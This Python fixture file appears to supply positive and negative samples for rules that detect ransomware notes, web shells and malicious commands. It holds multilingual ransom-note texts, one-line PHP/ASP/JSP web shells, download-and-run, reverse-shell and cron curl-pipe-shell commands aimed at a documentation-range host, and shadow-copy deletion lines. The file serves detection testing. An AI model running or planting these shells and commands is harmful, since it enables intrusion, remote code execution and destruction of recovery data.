"""What the built-in rules must find, and what they must leave alone; all of it inert.

Nothing here runs: the commands are cut off from any program, addresses are of the documentation
range, and long encoded texts are one letter repeated.
"""

NOTES = {
    "english": """All your files have been ENCRYPTED!
Your important documents, databases and photos cannot be opened without our key.
To decrypt them you have to pay in Bitcoin. Download Tor Browser and open
http://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion
Do not rename encrypted files. Do not try to use third party software.
We have also stolen your data; it will be published in 72 hours.
Your personal ID: 0000-TEST
""",
    "french": """ATTENTION ! Tous vos fichiers ont été chiffrés.
Pour les déchiffrer, il faut payer une rançon en bitcoin dans les 72 heures.
Installez Tor Browser et écrivez à nobody@onionmail.example.
Ne renommez pas les fichiers, n'utilisez pas de logiciels tiers.
Votre identifiant : 0000-TEST
""",
    "dutch": """Al uw bestanden zijn versleuteld.
Om ze te ontsleutelen betaalt u losgeld in bitcoin binnen 72 uur.
Uw gegevens zijn gestolen. Hernoem geen bestanden en probeer niet zelf te herstellen.
Uw ID: 0000-TEST
""",
    "short": """Hello! Your network was encrypted and your data was exfiltrated.
If you want the decryption key, write to nobody@tutanota.example in BTC matters only.
Recovery software will damage your files. Client ID: 0000-TEST. Use Tor Browser for chat.
""",
}

NO_NOTES = {
    "gpg manual": """gpg can encrypt and decrypt your files. A message that was encrypted to
your key can be decrypted with the personal key. Do not rename the keyring. Your data stays
yours.""",
    "incident report": """The attackers encrypted the servers and asked for a ransom in Bitcoin
through a Tor Browser chat. The hospital did not pay. Decryption tools were not available; data had
been stolen and was published after 72 hours. Analysts advise: do not rename encrypted machines.""",
    "privacy notice": """Your data is stored encrypted. You may ask us within 72 hours to delete
your files. Contact privacy@proton.me. Your personal key is needed to decrypt the export.""",
    "french letter": """Le chiffre d'affaires de votre réseau de soins. Vos données de santé sont
chiffrées au repos. Délai de réponse : 72 heures. Votre identifiant vous sera envoyé.""",
    "licence": "Permission is hereby granted, free of charge, to any person obtaining a copy.",
}

_LONG = "A" * 400

SHELLS = {
    "web_shell_php_runs_request": "<?php @eval($_POST['x']); ?>",
    "web_shell_php_runs_packed_text": f"<?php eval(gzinflate(base64_decode('{_LONG}'))); ?>",
    "web_shell_php_request_names_function": "<?php $_GET['f']($_GET['a']); ?>",
    "web_shell_asp_runs_request": '<% execute(request("x")) %>',
    "web_shell_aspx_starts_process": '<%@ Page Language="C#" %> var p = new ProcessStartInfo('
    '"cmd.exe", Request["c"]); p.RedirectStandardOutput = true;',
    "web_shell_jsp_runs_request": '<% Runtime.getRuntime().exec(request.getParameter("c"))'
    ".getInputStream(); %>",
}

SCRIPTS = {
    "powershell_encoded_command": f"powershell.exe -nop -w hidden -enc {_LONG}",
    "powershell_download_and_run": "IEX (New-Object Net.WebClient)"
    ".DownloadString('http://192.0.2.1/a')",
    "mshta_runs_remote_or_inline": "mshta http://192.0.2.1/a.hta",
    "certutil_downloads": "certutil -urlcache -split -f http://192.0.2.1/a.bin a.bin",
    "bitsadmin_downloads": "bitsadmin /transfer job /priority high http://192.0.2.1/a c:\\a",
    "regsvr32_runs_remote_scriptlet": "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
    "rundll32_runs_script": "rundll32.exe javascript:nothing",
    "script_host_downloads_and_runs": 'CreateObject("WScript.Shell") CreateObject("MSXML2.XMLHTTP")'
    ' CreateObject("ADODB.Stream").SaveToFile "a" : shell.Run "a"',
    "shell_connects_back": "bash -i >& /dev/tcp/192.0.2.1/9",
    "shell_pipes_download_into_shell_in_cron": "*/5 * * * * curl -s http://192.0.2.1/a | sh",
    "recovery_sabotage": "vssadmin delete shadows /all\n"
    "bcdedit /set {default} recoveryenabled no\n",
}

HARMLESS = {
    "php page": "<?php echo htmlspecialchars($_POST['name']); exec('date'); ?>",
    "php template": "<?= $title ?> <p><?php system_check($request); ?></p>",
    "asp page": '<% Response.Write(Server.HTMLEncode(Request("x"))) %>',
    "jsp page": '<% String name = request.getParameter("name"); %>',
    "powershell script": "powershell.exe -ExecutionPolicy Bypass -File backup.ps1",
    "powershell download": "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip",
    "certutil hash": "certutil -hashfile backup.vhdx SHA256",
    "backup script": "vssadmin list shadows\nwbadmin start backup -backupTarget:E:",
    "one sabotage word": "Never run vssadmin delete shadows on a file server.",
    "manual": "Example:\n```\nmshta http://192.0.2.1/a.hta\n"
    "certutil -urlcache -f http://192.0.2.1/a a\n```",
    "cron": "*/5 * * * * curl -fsS https://example.org/ping > /dev/null",
    "nurse note": "Patient stable, IV line in place; next dose at 18:00, Dr. Exec informed.",
}
